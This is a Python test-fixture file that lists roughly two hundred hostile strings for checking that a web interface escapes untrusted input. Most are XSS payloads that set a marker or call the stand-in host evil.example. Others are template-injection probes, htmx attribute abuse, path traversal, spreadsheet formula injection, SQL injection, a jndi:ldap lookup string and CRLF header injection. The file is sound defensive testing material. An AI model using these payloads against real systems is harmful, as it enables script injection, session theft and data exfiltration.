"""Two hundred hostile texts. Where they are not escaped, most set `window.__xss` or ask another host."""

from __future__ import annotations

RUN = "window.__xss=1"
HOST = "evil.example"

_ELEMENTS = f"""
<script>{RUN}</script>
<ScRiPt>{RUN}</sCrIpT>
<script >{RUN}</script >
<script/x>{RUN}</script>
<script src=//{HOST}/x.js></script>
<script type=module>{RUN}</script>
<script type="text/javascript">{RUN}</script>
<script>/*</script><script>{RUN}//</script>
<scr<script>ipt>{RUN}</scr</script>ipt>
</script><script>{RUN}</script>
</title><script>{RUN}</script>
</textarea><script>{RUN}</script>
</style><script>{RUN}</script>
</pre><script>{RUN}</script>
</main></body><script>{RUN}</script>
--><script>{RUN}</script>
<!--><script>{RUN}</script>
<!-- --!><script>{RUN}</script>
]]><script>{RUN}</script>
<![CDATA[<script>{RUN}</script>]]>
<noscript><p title="</noscript><script>{RUN}</script>">
<template><script>{RUN}</script></template>
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}">
<img src='x' onerror='{RUN}'>
<img/src=x/onerror={RUN}>
<img src=x oNeRrOr={RUN}>
<img src=x:x onerror={RUN}//
<img src=x onerror=&#119;indow.__xss=1>
<img src=x onerror=window['__xss']=1>
<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>
<img src=x onerror=top.__xss=1>
<img src=x onerror=self.__xss=1;alert(1)>
<img src=//{HOST}/p.png>
<img srcset="//{HOST}/p.png 1x">
<image src=x onerror={RUN}>
<picture><source srcset=x><img onerror={RUN} src=x></picture>
<svg onload={RUN}>
<svg/onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href="data:text/javascript,{RUN}" />
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><set onbegin={RUN} attributename=x>
<svg><image href=x onerror={RUN}>
<svg><use href="data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x">
<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a>
<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>
<svg><style><img src=x onerror={RUN}></style>
<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>
<math><mtext><script>{RUN}</script></mtext></math>
<math href="javascript:{RUN}">x</math>
<math><mi//xlink:href="data:x,<script>{RUN}</script>">
<body onload={RUN}>
<body onpageshow={RUN}>
<html onmouseover={RUN}>
<iframe onload={RUN}></iframe>
<iframe src="javascript:{RUN}"></iframe>
<iframe src=//{HOST}/></iframe>
<iframe srcdoc="<script>top.__xss=1</script>"></iframe>
<iframe srcdoc='&lt;img src=x onerror=top.__xss=1&gt;'></iframe>
<frameset onload={RUN}>
<object data="javascript:{RUN}">
<object data=//{HOST}/x.swf></object>
<object onerror={RUN} data=x>
<embed src="javascript:{RUN}">
<embed src=//{HOST}/x>
<audio src=x onerror={RUN}>
<video src=x onerror={RUN}></video>
<video><source onerror={RUN}></video>
<video poster=//{HOST}/p.png></video>
<audio autoplay onloadstart={RUN} src=x>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}></select>
<textarea autofocus onfocus={RUN}></textarea>
<button autofocus onfocus={RUN}>x</button>
<a href=# id=x tabindex=1 autofocus onfocus={RUN}>x</a>
<div tabindex=0 autofocus onfocusin={RUN}>x</div>
<details open ontoggle={RUN}>
<dialog open onclose={RUN}></dialog>
<marquee onstart={RUN}>x</marquee>
<marquee behavior=alternate onbounce={RUN}>x</marquee>
<p style="animation-name:x" onanimationstart={RUN}>
<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>
<div onmouseover={RUN} style=position:fixed;inset:0>
<div onpointerenter={RUN}>x</div>
<form action="javascript:{RUN}"><button>x</button></form>
<form action=//{HOST}/ id=f></form><button form=f>x</button>
<form><button formaction="javascript:{RUN}">x</button></form>
<isindex action="javascript:{RUN}" type=image>
<a href="javascript:{RUN}">x</a>
<a href="JaVaScRiPt:{RUN}">x</a>
<a href="java&#115;cript:{RUN}">x</a>
<a href="java&Tab;script:{RUN}">x</a>
<a href="&#1;javascript:{RUN}">x</a>
<a href="data:text/html,<script>{RUN}</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href=//{HOST}/ ping=//{HOST}/p>x</a>
<area href="javascript:{RUN}">
<base href=//{HOST}/>
<link rel=stylesheet href=//{HOST}/x.css>
<link rel=prefetch href=//{HOST}/x>
<link rel=preload as=script href=//{HOST}/x.js>
<meta http-equiv=refresh content="0;url=//{HOST}/">
<meta http-equiv=refresh content="0;url=javascript:{RUN}">
<meta http-equiv=set-cookie content="toc_session=x">
<style>@import '//{HOST}/x.css';</style>
<style>*{{background:url(//{HOST}/p.png)}}</style>
<p style="background:url(//{HOST}/p.png)">x</p>
<p style="width:expression({RUN})">x</p>
<table background=//{HOST}/p.png><tr><td>x
<portal src=//{HOST}/></portal>
<custom-element onconnected={RUN}>
<xss onpointerrawupdate={RUN} autofocus tabindex=1 onfocus={RUN}>
<time datetime="x" onfocus={RUN} tabindex=0 autofocus>x</time>
<time datetime="2026-01-01T00:00:00Z" id=main>x</time>
<main id=main data-refresh hx-get=//{HOST}/>
<p id=main>x</p>
<img name=getElementById><img name=querySelector>
<form name=document><input name=querySelectorAll></form>
"""

_ATTRIBUTES = f"""
" onfocus={RUN} autofocus x="
' onfocus={RUN} autofocus x='
" autofocus onfocus="{RUN}
"><script>{RUN}</script>
'><script>{RUN}</script>
"/><svg onload={RUN}>
"></option></select><img src=x onerror={RUN}>
" style="animation-name:x" onanimationstart="{RUN}
" hx-get="//{HOST}/" hx-trigger="load
" formaction="javascript:{RUN}
x onmouseover={RUN}
`onerror={RUN}`
javascript:{RUN}
javascript://%0a{RUN}
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+{RUN}//'>
data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==
//{HOST}/
https://{HOST}/login?next=/ui/
\\\\{HOST}\\x
/ui/../../etc/passwd
?said=<script>{RUN}</script>
#<img src=x onerror={RUN}>
";{RUN}//
';{RUN}//
\\";{RUN}//
</script>";{RUN}//
${{{RUN}}}
`+({RUN})+`
-->{RUN}//
"""

_TEMPLATES = f"""
{{{{7*7}}}}
{{{{ 7*'7' }}}}
{{% for x in (1,2) %}}x{{% endfor %}}
{{{{ config }}}}
{{{{ self.__init__.__globals__ }}}}
{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}
{{{{ visit.caller }}}}
{{{{ t["token"] }}}}
{{{{ "<script>{RUN}</script>"|safe }}}}
{{# a comment #}}{RUN}
${{7*7}}
#{{7*7}}
<%= 7*7 %>
{{{{constructor.constructor('{RUN}')()}}}}
[[${{7*7}}]]
%(password)s %s %d {{0.__class__}}
"""

_HTMX = f"""
<div hx-get=//{HOST}/ hx-trigger=load>
<div hx-get=/ui/ hx-trigger=load hx-swap=outerHTML>
<div hx-post=/ui/sign-out hx-trigger=load>
<div data-hx-post=/ui/sign-out data-hx-trigger=load>
<div hx-post=/ui/types/order.close/pause hx-trigger="every 1s">
<div hx-trigger=load hx-get=/ui/ hx-on:htmx:after:request="{RUN}">
<div hx-on:load="{RUN}" hx-trigger=load>
<div hx-on-htmx-load="{RUN}">
<div hx-on::after-init="{RUN}">
<div hx-vals='js:{{x:{RUN}}}' hx-get=/ui/ hx-trigger=load>
<div hx-headers='js:{{x:{RUN}}}' hx-get=/ui/ hx-trigger=load>
<div hx-get=/ui/ hx-trigger="load[{RUN}]">
<div hx-swap-oob=true id=main>x</div>
<hx-partial hx-target=body>x</hx-partial>
<div hx-ext=sse sse-connect=//{HOST}/>
<div hx-boost=true><a href=//{HOST}/>x</a></div>
<div hx-confirm=x hx-delete=/ui/ hx-trigger=load>
<meta name=htmx-config content='{{"mode":"cors"}}'>
"""

_ODD = [
    "\u202e<script>window.__xss=1</script>\u202c",
    "\u2066\u202egnp.tpircs\u2069 right to left",
    "\u200b<\u200bscript>window.__xss=1</script>",
    "\u200d\u200c\ufeffzero width\u200b",
    "<\u0000script>window.__xss=1</script>",
    "<img src=x one\u0000rror=window.__xss=1>",
    "\x1b[31mred\x1b[0m \x07",
    "line\rfeed\r\nSet-Cookie: a=b",
    "\u2028window.__xss=1\u2029",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\u02bascript \u2039img\u203a",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.__xss=1&#x3e;",
    "&quot; onfocus=window.__xss=1 autofocus &quot;",
    "&nbsp;&amp;&amp;amp;&zwj;&notit;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.__xss=1\\x3e",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "' OR 1=1 -- ",
    "1; DROP TABLE toc_meta",
    "${jndi:ldap://evil.example/x}",
    "{\"__proto__\": {\"x\": 1}}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u030d\u035b\u0346l\u0320g\u0315o\u0362",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\u200d\u2620\ufe0f",
    "undefined null NaN true -0 1e999",
    "a" * 400 + "<script>window.__xss=1</script>",
    "\u4e2d\u6587<script>window.__xss=1</script>\u8d85\u65f6",
    "<" * 200,
    "<a" + " x" * 100 + " onfocus=window.__xss=1 autofocus tabindex=0>",
]  # fmt: skip


def _lines(text: str) -> list[str]:
    return text.strip("\n").splitlines()


HOSTILE: list[str] = [
    *_lines(_ELEMENTS), *_lines(_ATTRIBUTES), *_lines(_TEMPLATES), *_lines(_HTMX), *_ODD,
]  # fmt: skip
